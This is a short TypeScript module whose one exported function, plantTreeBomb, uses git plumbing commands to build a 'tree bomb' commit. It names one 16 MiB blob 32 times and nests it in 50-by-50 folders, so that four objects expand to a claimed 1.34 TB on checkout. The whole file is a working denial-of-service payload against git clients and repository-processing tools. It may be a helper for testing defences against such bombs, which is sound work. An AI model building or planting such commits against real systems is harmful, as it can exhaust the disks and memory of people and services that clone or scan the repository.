import { execFileSync } from 'node:child_process'

/** Four objects: 32 names of one blob, in 50 folders in 50 folders, are 1.34 TB. */
export function plantTreeBomb(dir: string, blobBytes = 16 * 1024 ** 2, folders = 50): string {
  const git = (command: string, input: string | Buffer): string =>
    `${execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...command.split(' ')], { cwd: dir, input })}`.trim()
  const tree = (entry: string, count: number): string =>
    git('mktree', Array.from({ length: count }, (_, n) => `${entry}\tn${n}\n`).join(''))
  const leaf = tree(`100644 blob ${git('hash-object -w --stdin', Buffer.alloc(blobBytes))}`, 32)
  return git(`commit-tree -m bomb ${tree(`040000 tree ${tree(`040000 tree ${leaf}`, folders)}`, folders)}`, '')
}
